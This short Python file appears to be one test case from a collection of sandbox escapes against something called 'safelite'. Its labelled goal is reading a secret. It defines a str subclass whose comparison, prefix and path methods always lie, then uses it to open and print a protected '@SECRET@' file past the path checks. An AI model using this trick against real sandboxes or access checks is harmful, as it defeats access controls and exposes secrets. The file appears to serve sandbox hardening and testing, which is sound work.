# technique: a str subclass that pretends to be another path in every comparison
# goal: read-secret
# source: safelite version 12, exact type checks of arguments
class Path(str):
    def startswith(self, *prefix):
        return True

    def __eq__(self, other):
        return True

    def __str__(self):
        return __file__
    __repr__ = __str__
    __fspath__ = __str__

    def __hash__(self):
        return hash(__file__)


print(open(Path('@SECRET@')).read())
